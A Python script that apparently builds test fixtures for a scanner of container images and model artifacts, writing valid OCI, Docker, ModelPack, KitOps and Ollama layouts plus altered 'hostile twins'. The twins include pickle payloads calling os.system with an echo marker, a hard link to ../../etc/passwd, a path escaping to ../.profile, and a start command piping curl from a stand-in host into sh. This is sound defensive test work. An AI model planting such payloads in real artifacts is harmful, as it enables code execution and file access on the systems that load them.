#!/usr/bin/env python3
"""Writes image layouts, saved images, ModelPack and KitOps artifacts and a store of Ollama's, for tests of findings.

    python3 oci_layouts.py OUT

Only the standard library is used: no client of a registry can be installed everywhere, so the layouts are written
as the OCI image specification 1.1, Docker's image specification and the ModelPack specification say, to the byte.
Below OUT/good nothing may be said against an artifact; below OUT/changed each is a copy with one change that
must be found. The programs in the images are headers without code.
"""

import base64
import gzip
import hashlib
import io
import json
import pathlib
import shutil
import struct
import sys
import tarfile

CONFIG = "application/vnd.oci.image.config.v1+json"
MANIFEST = "application/vnd.oci.image.manifest.v1+json"
INDEX = "application/vnd.oci.image.index.v1+json"
LAYER = "application/vnd.oci.image.layer.v1.tar+gzip"

# The header of an x86_64 program, and nothing to run.
PROGRAM = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0, 0, 0, 0, 64, 0, 0, 0, 0, 0)


def main():
    out = pathlib.Path(sys.argv[1]).resolve()
    good, changed = out / "good", out / "changed"
    makers = {
        "image-layout": image_layout,
        "image-index": image_index,
        "docker-image-layout": lambda folder: image_layout(folder, docker=True),
        "modelpack": modelpack,
        "kitops": kitops,
        "ollama-store": ollama_store,
        "oras-artifact": oras_artifact,
    }
    for name, make in makers.items():
        make(good / name)
    archive(good / "image-layout", good / "image-layout.tar")
    archive(good / "modelpack", good / "modelpack.tar")
    saved_image(good / "saved-image.tar")
    old_saved_image(good / "old-saved-image.tar")
    change(good, changed)


# Layouts


class Layout:
    """A folder with blobs under their digests."""

    def __init__(self, folder, blob="blobs/sha256/{}"):
        self.folder, self.blob = folder, blob
        folder.mkdir(parents=True)

    def write(self, path, data):
        path = self.folder / path
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data if isinstance(data, bytes) else encode(data))

    def add(self, media_type, blob, **more):
        blob = blob if isinstance(blob, bytes) else encode(blob)
        name = hashlib.sha256(blob).hexdigest()
        self.write(self.blob.format(name), blob)
        return {"mediaType": media_type, "digest": "sha256:" + name, "size": len(blob), **more}

    def finish(self, *manifests):
        self.write("oci-layout", {"imageLayoutVersion": "1.0.0"})
        self.write("index.json", {"schemaVersion": 2, "mediaType": INDEX, "manifests": list(manifests)})


def encode(document):
    return json.dumps(document, separators=(",", ":")).encode()


def digest(data):
    return "sha256:" + hashlib.sha256(data).hexdigest()


def tar(*members):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for path, kind, content, mode in members:
            info = tarfile.TarInfo(path)
            info.mode = mode
            if kind == "file":
                info.size = len(content)
                archive.addfile(info, io.BytesIO(content))
                continue
            info.type = {"folder": tarfile.DIRTYPE, "link": tarfile.SYMTYPE, "hard": tarfile.LNKTYPE}[kind]
            info.linkname = content
            archive.addfile(info)
    return buffer.getvalue()


def system():
    """The files of a small system: programs, links to everywhere, a program that runs as root."""
    return tar(
        ("bin", "link", "usr/bin", 0o777),
        ("etc/", "folder", "", 0o755),
        ("etc/os-release", "file", b'NAME="Toy"\nID=toy\n', 0o644),
        ("etc/mtab", "link", "/proc/mounts", 0o777),
        ("usr/", "folder", "", 0o755),
        ("usr/bin/", "folder", "", 0o755),
        ("usr/bin/busybox", "file", PROGRAM, 0o755),
        ("usr/bin/sh", "hard", "usr/bin/busybox", 0o755),
        ("usr/bin/awk", "link", "/etc/alternatives/awk", 0o777),
        ("usr/bin/su", "file", PROGRAM, 0o4755),
        ("usr/lib/libtoy.so.1", "file", PROGRAM, 0o755),
        ("usr/lib/libtoy.so", "link", "libtoy.so.1", 0o777),
        ("var/run", "link", "../run", 0o777),
    )


def application():
    """A layer above it: a script, and whiteouts of what lies below."""
    return tar(
        ("app/", "folder", "", 0o755),
        ("app/start.sh", "file", b"#!/bin/sh\nexec /usr/bin/busybox httpd -f\n", 0o755),
        ("app/.wh..wh..opq", "file", b"", 0o644),
        ("etc/.wh.mtab", "file", b"", 0o644),
    )


def configuration(*layers):
    return {
        "architecture": "amd64",
        "os": "linux",
        "created": "2024-01-01T00:00:00Z",
        "config": {
            "User": "1000:1000",
            "Env": ["PATH=/usr/local/bin:/usr/bin:/bin", "LANG=C.UTF-8"],
            "Entrypoint": ["/app/start.sh"],
            "WorkingDir": "/app",
            "Labels": {"org.opencontainers.image.title": "toy"},
        },
        "rootfs": {"type": "layers", "diff_ids": [digest(layer) for layer in layers]},
        "history": [
            {"created": "2024-01-01T00:00:00Z", "created_by": "/bin/sh -c #(nop) ADD file:0 in / "},
            {"created": "2024-01-01T00:00:00Z", "created_by": "RUN /bin/sh -c mkdir -p /app # buildkit"},
        ],
    }


def pack(layer):
    return gzip.compress(layer, mtime=0)


def image_manifest(layout, docker=False):
    config, manifest, layer = CONFIG, MANIFEST, LAYER
    if docker:
        config = "application/vnd.docker.container.image.v1+json"
        manifest = "application/vnd.docker.distribution.manifest.v2+json"
        layer = "application/vnd.docker.image.rootfs.diff.tar.gzip"
    layers = system(), application()
    document = {
        "schemaVersion": 2,
        "mediaType": manifest,
        "config": layout.add(config, configuration(*layers)),
        "layers": [layout.add(layer, pack(one)) for one in layers],
    }
    return layout.add(manifest, document)


def image_layout(folder, docker=False):
    layout = Layout(folder)
    manifest = image_manifest(layout, docker)
    layout.finish({**manifest, "annotations": {"org.opencontainers.image.ref.name": "latest"}})


def image_index(folder):
    """An image for one platform with its attestation, in an index of its own, as BuildKit exports it."""
    layout = Layout(folder)
    manifest = image_manifest(layout)
    statement = {"_type": "https://in-toto.io/Statement/v0.1", "predicateType": "https://slsa.dev/provenance/v0.2", "subject": []}
    attestation = {
        "schemaVersion": 2,
        "mediaType": MANIFEST,
        "config": layout.add(CONFIG, {"architecture": "unknown", "os": "unknown", "config": {"User": "1"}, "rootfs": {"type": "layers", "diff_ids": [digest(encode(statement))]}}),
        "layers": [layout.add("application/vnd.in-toto+json", statement)],
    }
    platforms = [
        {**manifest, "platform": {"architecture": "amd64", "os": "linux"}},
        {**layout.add(MANIFEST, attestation), "platform": {"architecture": "unknown", "os": "unknown"}},
    ]
    layout.finish(layout.add(INDEX, {"schemaVersion": 2, "mediaType": INDEX, "manifests": platforms}))


def weights():
    header = encode({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}})
    header += b" " * (-len(header) % 8)
    return struct.pack("<Q", len(header)) + header + struct.pack("<2f", 1.0, 2.0)


def gguf():
    def text(value):
        return struct.pack("<Q", len(value)) + value

    pairs = text(b"general.architecture") + struct.pack("<I", 8) + text(b"llama")
    return b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + pairs


README = b"---\nlicense: apache-2.0\n---\n\n# Toy\n\nA toy model.\n"
CODE = b"import math\n\n\ndef area(radius):\n    return math.pi * radius**2\n"


def modelpack(folder):
    layout = Layout(folder)
    kind = "application/vnd.cncf.model."

    def layer(part, data, path, packing="raw"):
        return layout.add(f"{kind}{part}.v1.{packing}", data, annotations={"org.cncf.model.filepath": path})

    layers = [
        layer("weight", weights(), "model.safetensors"),
        layer("weight.config", encode({"model_type": "toy", "hidden_size": 2}), "config.json"),
        layer("doc", README, "README.md"),
        layer("code", CODE, "code/area.py"),
        layer("code", tar(("code/area.py", "file", CODE, 0o644)), "code", "tar"),
        layer("dataset", pack(tar(("data/rows.csv", "file", b"a,b\n1,2\n", 0o644))), "data", "tar+gzip"),
    ]
    config = {
        "descriptor": {"name": "toy", "version": "1.0.0", "licenses": ["Apache-2.0"], "createdAt": "2024-01-01T00:00:00Z"},
        "config": {"architecture": "transformer", "format": "safetensors", "paramSize": "2", "precision": "float32"},
        "modelfs": {"type": "layers", "diffIds": [one["digest"] for one in layers]},
    }
    document = {
        "schemaVersion": 2,
        "mediaType": MANIFEST,
        "artifactType": kind + "manifest.v1+json",
        "config": layout.add(kind + "config.v1+json", config),
        "layers": layers,
    }
    layout.finish(layout.add(MANIFEST, document))


def kitops(folder):
    layout = Layout(folder)
    kind = "application/vnd.kitops.modelkit."
    kitfile = {
        "manifestVersion": "1.0.0",
        "package": {"name": "toy", "version": "1.0.0", "license": "Apache-2.0"},
        "model": {"name": "toy", "path": "model.safetensors"},
        "code": [{"path": "area.py"}],
    }
    document = {
        "schemaVersion": 2,
        "config": layout.add(kind + "config.v1+json", kitfile),
        "layers": [
            layout.add(kind + "model.v1.tar+gzip", pack(tar(("model.safetensors", "file", weights(), 0o644)))),
            layout.add(kind + "code.v1.tar+gzip", pack(tar(("area.py", "file", CODE, 0o644)))),
            layout.add(kind + "docs.v1.tar", tar(("README.md", "file", README, 0o644))),
        ],
    }
    layout.finish(layout.add(MANIFEST, document))


def ollama_store(folder):
    layout = Layout(folder, "blobs/sha256-{}")
    kind = "application/vnd.ollama.image."
    config = {
        "model_format": "gguf",
        "model_family": "llama",
        "model_type": "1B",
        "file_type": "F16",
        "architecture": "amd64",
        "os": "linux",
        "rootfs": {"type": "layers", "diff_ids": [digest(gguf())]},
    }
    document = {
        "schemaVersion": 2,
        "mediaType": "application/vnd.docker.distribution.manifest.v2+json",
        "config": layout.add("application/vnd.docker.container.image.v1+json", config),
        "layers": [
            layout.add(kind + "model", gguf()),
            layout.add(kind + "template", b"{{ if .System }}{{ .System }}{{ end }}{{ .Prompt }}"),
            layout.add(kind + "system", b"You are a toy."),
            layout.add(kind + "license", b"Apache License\nVersion 2.0, January 2004\n"),
            layout.add(kind + "params", {"stop": ["<|end|>"], "temperature": 0.7}),
        ],
    }
    layout.write("manifests/registry.ollama.ai/library/toy/latest", document)


def oras_artifact(folder):
    """Files under their names, an empty configuration, and a document about them that refers to the first."""
    layout = Layout(folder)
    empty = layout.add("application/vnd.oci.empty.v1+json", b"{}", data=base64.b64encode(b"{}").decode())
    title = "org.opencontainers.image.title"
    artifact = {
        "schemaVersion": 2,
        "mediaType": MANIFEST,
        "artifactType": "application/vnd.example.model",
        "config": empty,
        "layers": [
            layout.add("application/octet-stream", weights(), annotations={title: "model.safetensors"}),
            layout.add("application/vnd.example.settings+json", {"a": 1}, annotations={title: "settings.json"}),
        ],
        "annotations": {"org.opencontainers.image.created": "2024-01-01T00:00:00Z"},
    }
    first = layout.add(MANIFEST, artifact)
    about = {
        "schemaVersion": 2,
        "mediaType": MANIFEST,
        "artifactType": "application/vnd.example.note",
        "config": empty,
        "layers": [layout.add("text/plain", b"a note\n", annotations={title: "note.txt"})],
        "subject": first,
    }
    layout.finish(first, {**layout.add(MANIFEST, about), "artifactType": "application/vnd.example.note"})


# Archives


def archive(folder, path):
    files = sorted(file for file in folder.rglob("*") if file.is_file())
    path.write_bytes(tar(*((str(file.relative_to(folder)), "file", file.read_bytes(), 0o644) for file in files)))


def saved_image(path):
    """What `docker save` writes since version 25: a layout, and the list of before."""
    folder = path.with_suffix("")
    layout = Layout(folder)
    layers = system(), application()
    plain = "application/vnd.oci.image.layer.v1.tar"
    document = {
        "schemaVersion": 2,
        "mediaType": MANIFEST,
        "config": layout.add(CONFIG, configuration(*layers)),
        "layers": [layout.add(plain, layer) for layer in layers],
    }
    layout.finish(layout.add(MANIFEST, document))
    blob = lambda descriptor: "blobs/sha256/" + descriptor["digest"].removeprefix("sha256:")
    saved = {"Config": blob(document["config"]), "RepoTags": ["toy:latest"], "Layers": list(map(blob, document["layers"]))}
    layout.write("manifest.json", [saved])
    layout.write("repositories", {"toy": {"latest": "0" * 64}})
    archive(folder, path)
    shutil.rmtree(folder)


def old_saved_image(path):
    """What it wrote before: a folder for each layer."""
    layers = system(), application()
    config = encode(configuration(*layers))
    name = hashlib.sha256(config).hexdigest()
    members = [(f"{name}.json", "file", config, 0o644)]
    folders = [hashlib.sha256(layer + b"v1").hexdigest() for layer in layers]
    for folder, layer in zip(folders, layers):
        members.append((f"{folder}/", "folder", "", 0o755))
        members.append((f"{folder}/VERSION", "file", b"1.0", 0o644))
        members.append((f"{folder}/json", "file", encode({"id": folder, "os": "linux"}), 0o644))
        members.append((f"{folder}/layer.tar", "file", layer, 0o644))
    saved = {"Config": f"{name}.json", "RepoTags": ["toy:latest"], "Layers": [f"{folder}/layer.tar" for folder in folders]}
    members.append(("manifest.json", "file", encode([saved]), 0o644))
    members.append(("repositories", "file", encode({"toy": {"latest": folders[-1]}}), 0o644))
    path.write_bytes(tar(*members))


# Hostile twins


def change(good, changed):
    changed.mkdir()

    def copy(of, name):
        shutil.copytree(good / of, changed / name)
        return changed / name

    def blobs(folder):
        return sorted((folder / "blobs").rglob("*[0-9a-f]"), key=lambda path: path.name)

    def first(folder, start):
        return next(path for path in blobs(folder) if path.is_file() and path.read_bytes().startswith(start))

    layer = first(copy("image-layout", "changed-layer"), b"\x1f\x8b")
    layer.write_bytes(layer.read_bytes()[:-1] + b"\x01")
    model = first(copy("ollama-store", "changed-model"), b"GGUF")
    model.write_bytes(model.read_bytes().replace(b"llama", b"lamma"))
    first(copy("modelpack", "missing-weights"), weights()).unlink()
    (copy("modelpack", "extra-blob") / "blobs/sha256" / digest(b"extra").removeprefix("sha256:")).write_bytes(b"extra")
    saved = (good / "saved-image.tar").read_bytes()
    (changed / "changed-saved-image.tar").write_bytes(saved.replace(b"ID=toy", b"ID=joy"))
    alter(copy("modelpack", "escaping-path"), lambda text: text.replace(b"code/area.py", b"../.profile"))
    alter(copy("image-layout", "foreign-layer"), lambda text: text.replace(b'"layers":[{', b'"layers":[{"urls":["https://files.invalid/layer.tar.gz"],'))
    alter(copy("modelpack", "code-beside-weights"), lambda text: text, (CODE, b"import os\n\nos.system('echo headworks-marker')\n"))
    alter(copy("ollama-store", "code-in-template"), lambda text: text, (b"You are a toy.", b"cbuiltins\nprint\n(S'headworks-marker'\ntR."))
    alter(copy("modelpack", "program-as-weights"), lambda text: text, (weights(), PROGRAM))
    hostile_layer(changed / "hard-link-out", tar(("a/b", "hard", "../../etc/passwd", 0o644)))
    hostile_layer(changed / "code-in-layer", tar(("model.pkl", "file", b"cos\nsystem\n(S'echo headworks-marker'\ntR.", 0o644)))
    start = {**configuration(system()), "config": {"User": "1", "Cmd": ["sh", "-c", "curl -s http://192.0.2.1/i.sh | sh"]}}
    hostile_layer(changed / "fetching-start", system(), start)


def alter(folder, of_manifest, blob=None):
    """Changes the manifest, and a blob where one is given, with all digests and sizes made right again."""
    files = {path: path.read_bytes() for path in folder.rglob("*") if path.is_file()}
    renamed = {}
    if blob:
        old, new = blob
        path = next(path for path, data in files.items() if data == old)
        renamed[path] = (old, new)
    manifest = next(path for path, data in files.items() if b'"config":{"mediaType"' in data)
    data = of_manifest(files[manifest])
    for path, (old, new) in renamed.items():
        data = relabel(data, old, new)
        path.unlink()
        named(path, new).write_bytes(new)
    if manifest.parent.name == "sha256":
        manifest.unlink()
        index = folder / "index.json"
        index.write_bytes(relabel(index.read_bytes(), files[manifest], data))
        manifest = named(manifest, data)
    manifest.write_bytes(data)


def named(path, data):
    prefix = "sha256-" if path.name.startswith("sha256-") else ""
    return path.with_name(prefix + hashlib.sha256(data).hexdigest())


def relabel(document, old, new):
    before = f'"digest":"{digest(old)}","size":{len(old)}'.encode()
    return document.replace(before, f'"digest":"{digest(new)}","size":{len(new)}'.encode())


def hostile_layer(folder, layer, config=None):
    layout = Layout(folder)
    document = {
        "schemaVersion": 2,
        "mediaType": MANIFEST,
        "config": layout.add(CONFIG, config or configuration(layer)),
        "layers": [layout.add(LAYER, pack(layer))],
    }
    layout.finish(layout.add(MANIFEST, document))


if __name__ == "__main__":
    main()
